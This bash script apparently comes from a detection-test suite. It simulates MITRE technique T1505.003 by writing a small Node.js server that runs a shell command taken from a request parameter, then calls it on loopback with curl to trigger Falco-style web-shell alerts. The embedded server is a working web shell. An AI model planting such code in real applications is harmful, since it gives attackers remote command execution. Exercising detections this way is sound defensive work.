#!/bin/bash
# technique: T1505.003
# tactic: persistence, execution
# what: a web application (node http server) runs a shell command from a request parameter, as a
#       web shell does; the request comes from curl on loopback
# source: Falco "Run shell untrusted" / web-shell detections; event-generator run_shell_untrusted
# cleanup: the server exits after one request
. "$(dirname "$0")/lib.sh"
vg_have node curl
d=$(vg_tmp)
cat > "$d/app.js" <<'JS'
const http = require('http'), cp = require('child_process'), fs = require('fs');
const srv = http.createServer((req, res) => {
  const cmd = new URL(req.url, 'http://x').searchParams.get('cmd');
  cp.exec(cmd, (e, out) => { res.end(out); srv.close(); });
});
srv.listen(0, '127.0.0.1', () => fs.writeFileSync(process.argv[2], String(srv.address().port)));
setTimeout(() => process.exit(0), 10000);
JS
node "$d/app.js" "$d/port" &
vg_on_exit "kill $!"
for i in $(seq 50); do [ -s "$d/port" ] && break; sleep 0.1; done
curl -s "http://127.0.0.1:$(cat "$d/port")/?cmd=id" >/dev/null
